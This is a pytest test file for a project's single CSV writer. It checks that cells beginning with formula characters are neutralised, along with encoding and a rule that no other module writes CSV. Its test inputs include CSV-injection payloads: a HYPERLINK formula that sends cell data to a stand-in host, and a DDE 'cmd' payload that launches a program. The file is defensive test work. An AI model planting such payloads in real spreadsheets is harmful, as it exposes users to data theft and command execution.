"""The one CSV writer (kosodate/core/csv.py): formulas are neutralised in every CSV we write."""

import ast
import io
from pathlib import Path

import pytest

from kosodate.core.csv import csv_cell, csv_response, csv_writer


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("https://evil.example/?q="&A1,"卵")',
        "+1+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_becomes_text(typed):
    assert csv_cell(typed) == "'" + typed
    out = io.StringIO()
    csv_writer(out).writerow(["卵", typed])
    assert "'" + typed[:1] in out.getvalue()


@pytest.mark.parametrize("kept", ["卵・小麦", "", "090-1234-5678", "a=b", 12, -3, 0.5])
def test_ordinary_values_and_numbers_are_left_alone(kept):
    assert csv_cell(kept) == kept


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""


def test_csv_response_is_utf8_with_a_byte_order_mark_and_neutralised():
    response = csv_response("x.csv", [["a", "=1+1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content.decode("utf-8") == "\ufeffa,'=1+1\r\n"


def test_nothing_else_writes_csv():
    """Every CSV goes through core/csv.py: no other module calls the csv module's writers."""
    root = Path(__file__).resolve().parents[2] / "kosodate"
    offenders = []
    for path in root.rglob("*.py"):
        if path == root / "core" / "csv.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names]
                module = getattr(node, "module", None)
                if "csv" in names or module == "csv":
                    offenders.append(str(path.relative_to(root)))
    assert offenders == []
